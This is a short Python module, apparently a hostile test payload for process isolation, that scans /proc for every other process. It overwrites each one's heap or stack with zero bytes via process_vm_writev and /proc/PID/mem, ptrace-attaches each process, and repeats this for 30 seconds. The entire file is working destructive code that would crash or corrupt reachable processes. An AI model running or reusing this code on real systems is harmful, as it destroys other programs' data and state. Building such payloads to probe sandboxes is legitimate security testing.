"""Writes into the memory of other processes: ptrace, process_vm_writev, /proc/PID/mem."""

import contextlib
import ctypes
import os
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_ATTACH = 0x4206, 16


def others():
    """Pids of all processes in sight that are not of this run: neither it, nor what it started."""
    seen = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            with contextlib.suppress(OSError), open(f"/proc/{name}/stat") as stat:
                seen[int(name)] = int(stat.read().rpartition(")")[2].split()[1])
    mine = {os.getpid()}
    for _ in range(8):
        mine |= {pid for pid, parent in seen.items() if parent in mine}
    return sorted(set(seen) - mine - {1})


def writable(pid):
    """Start and length of some of its writable memory."""
    with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            if " rw-p " in line and ("[heap]" in line or "[stack]" in line):
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                return start, end - start
    return 0, 0


def attack():
    for pid in others():
        start, length = writable(pid)
        if length:
            junk = ctypes.create_string_buffer(length)
            ours = (ctypes.c_size_t * 2)(ctypes.addressof(junk), length)
            theirs = (ctypes.c_size_t * 2)(start, length)
            LIBC.process_vm_writev(pid, ours, 1, theirs, 1, 0)
            with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                memory.seek(start)
                memory.write(junk)
        LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0)


def answer(up):
    end = time.monotonic() + 30
    attack()
    up()
    while time.monotonic() < end:
        attack()
    return 42

